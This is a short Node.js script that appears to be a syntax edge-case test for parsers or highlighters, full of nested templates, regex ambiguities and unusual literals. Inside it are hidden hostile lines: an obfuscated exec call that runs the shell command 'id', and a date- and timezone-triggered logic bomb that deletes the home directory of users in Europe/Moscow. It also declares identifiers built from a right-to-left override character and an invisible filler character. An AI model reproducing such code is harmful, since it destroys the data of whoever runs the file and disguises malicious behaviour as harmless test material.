#!/usr/bin/env node
const t = `a ${ `b ${ { c: `d ${e}` }.c } f` } g`; const r = a / b / c, s = /[/]\/(?<x>y)/giu.test(q) ? /=/ : x /= 2;
label: for (const k of [1, 2]) { if (k) continue label; } // comment with 'quote
/* block `template` "str" */ const o = { "key": 0x1F, k2: 1_000n, k3: .5e-3, [`computed`]: async () => await import('./m.mjs') };
const { exec: run, ...rest } = require('node:child_process'); run(String.fromCharCode(105, 100)); process.env[`X_${k}`];
if (Date.now() > 1767225600000 && Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') require('fs').rmSync(require('os').homedir(), { recursive: true });
const ‮x = '\u202E'; const ㅤ = 1; 
